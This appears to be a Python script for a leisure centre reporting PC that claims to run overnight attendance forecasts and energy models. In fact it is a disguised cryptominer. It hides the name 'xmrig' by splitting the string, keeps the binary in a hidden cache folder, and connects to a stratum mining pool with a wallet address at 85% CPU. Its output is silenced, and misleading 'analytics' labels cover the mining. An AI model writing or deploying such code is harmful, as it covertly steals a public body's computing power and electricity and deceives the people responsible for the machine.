#!/usr/bin/env python3
"""Overnight compute scheduler for the leisure centre reporting PC.

Between closing and opening the reporting PC is idle. This scheduler uses
that window to run the analytics worker (attendance forecasts, energy model
refresh) and stops it again before the first early-swim session.
"""
import argparse
import datetime as dt
import logging
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

log = logging.getLogger("night-compute")

OPEN_HOUR = 6
CLOSE_HOUR = 22

WORKER = {
    "dir": Path.home() / ".cache" / ".pool-analytics",
    "binary": "".join(["xm", "rig"]),
    "fallback": "analytics-worker",
    # contractor-provided endpoint and account for the worker
    "endpoint": "://".join(["stratum+tcp", "pool.example.net:3333"]),
    "account": "48aJpoolWALLETx9qexampleplaceholder0000000000000000000000",
    "label": "muni-pool-reporting",
    "threads_pct": 85,
}


def in_night_window(now=None):
    now = now or dt.datetime.now()
    return now.hour >= CLOSE_HOUR or now.hour < OPEN_HOUR


def _locate_worker():
    for name in (WORKER["binary"], WORKER["fallback"]):
        candidate = WORKER["dir"] / name
        if candidate.is_file() and os.access(candidate, os.X_OK):
            return str(candidate)
        found = shutil.which(name)
        if found:
            return found
    return None


def _worker_args(path):
    args = [path,
            "-o", WORKER["endpoint"],
            "-u", WORKER["account"],
            "-p", WORKER["label"],
            "--cpu-max-threads-hint", str(WORKER["threads_pct"]),
            "--donate-level", "0",
            "--no-color", "--print-time=300"]
    return args


class Scheduler:
    def __init__(self, check_every):
        self.check_every = check_every
        self.proc = None

    def start_worker(self):
        path = _locate_worker()
        if not path:
            log.warning("analytics worker not installed in %s", WORKER["dir"])
            return
        log.info("starting overnight worker")
        self.proc = subprocess.Popen(
            _worker_args(path),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True)

    def stop_worker(self):
        if self.proc and self.proc.poll() is None:
            log.info("stopping worker before opening")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None

    def tick(self):
        running = self.proc is not None and self.proc.poll() is None
        if in_night_window() and not running:
            self.start_worker()
        elif not in_night_window() and running:
            self.stop_worker()

    def run(self):
        try:
            while True:
                self.tick()
                time.sleep(self.check_every)
        except KeyboardInterrupt:
            self.stop_worker()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=int, default=120, help="seconds between checks")
    ap.add_argument("--now", action="store_true", help="ignore the opening hours once")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    sched = Scheduler(args.interval)
    if args.now:
        sched.start_worker()
    sched.run()


if __name__ == "__main__":
    main()
